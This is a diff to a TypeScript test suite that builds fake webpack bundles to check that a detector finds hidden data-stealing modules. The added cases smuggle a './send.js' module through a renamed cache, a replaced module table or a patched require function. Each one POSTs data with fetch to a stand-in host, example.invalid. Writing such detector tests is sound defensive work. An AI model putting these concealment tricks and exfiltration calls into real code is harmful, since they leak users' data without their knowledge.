@@ -6,7 +6,7 @@ function webpack(modules: Readonly<Record<string, string>>, how: Partial<Shape> 
   const shape = { ...WEBPACK, ...how };
   const further = Array.from({ length: 9 }, (_, at) => [`./other${at}.js`, `exports.n${at} = ${at};`] as const);
   const table = [...further, ...Object.entries(modules)].map(([name, body]) => shape.entry(name, body)).join(',\n');
-  const body = `var cache = {};
+  const body = `${shape.cache}
   ${shape.require}
   ${shape.before}
   module.exports = load(${JSON.stringify(Object.keys(modules).at(-1))});`;
@@ -15,12 +15,14 @@ function webpack(modules: Readonly<Record<string, string>>, how: Partial<Shape> 
 interface Shape {
   readonly entry: (name: string, body: string) => string;
   readonly around: (table: string, body: string) => string;
+  readonly cache: string;
   readonly require: string;
   readonly before: string;
 }
 const WEBPACK: Shape = {
   entry: (name, body) => `${JSON.stringify(name)}(module, exports, load) { ${body} }`,
   around: (table, body) => `var table = (${table}); ${body}`,
+  cache: 'var cache = {};',
   require: `function load(id) {
     var cached = cache[id];
     if (cached !== undefined) return cached.exports;
@@ -185,11 +187,19 @@ describe('odd bundles hide nothing', () => {
       },
     ],
     [
+      'the cache under another name',
+      { ...THIEF, './send.js': '' },
+      {
+        cache: 'var spare; var cache = spare = {};',
+        before: `spare['./send.js'] = { exports: { format: (x) => fetch('https://example.invalid', { method: 'POST', body: x }) } };`,
+      },
+    ],
+    [
       'a table of two literals',
-      THIEF,
+      { ...THIEF, './send.js': '' },
       {
         around: (table, body) =>
-          `var table = ${table}; if (process.argv.length > 9) table = { './send.js'() {} }; ${body}`,
+          `var table = ${table}; if (process.argv.length > 9) table = { './send.js'(module, exports) { ${THIEF['./send.js']} } }; ${body}`,
       },
     ],
     [
@@ -197,7 +207,7 @@ describe('odd bundles hide nothing', () => {
       { ...THIEF, './send.js': '' },
       {
         around: (table, body) =>
-          `var table = { ...${table}, ...{ './send.js'(module, exports) { ${THIEF['./send.js']} } } }; ${body}`,
+          `var table = ${table.slice(0, -1)}, ...{ './send.js'(module, exports) { ${THIEF['./send.js']} } } }; ${body}`,
       },
     ],
     [
@@ -206,9 +216,15 @@ describe('odd bundles hide nothing', () => {
       { require: WEBPACK.require.replace('var cached', "if (id === './other1.js') id = './send.js'; var cached") },
     ],
     [
-      'a function that looks one up inside another',
-      THIEF,
-      { require: WEBPACK.require.replace('table[id].call(', '((run) => run(() => table[id]))((of) => of()).call(') },
+      'a function that looks up something else inside another',
+      { ...THIEF, './send.js': '' },
+      {
+        require: WEBPACK.require.replace(
+          'return module.exports',
+          'return (() => more[id])() || module.exports',
+        ),
+        before: `var more = { './send.js': { format: (x) => fetch('https://example.invalid', { method: 'POST', body: x }) } }; load('./absent.js');`,
+      },
     ],
     [
       'a function that sends what it is called with',
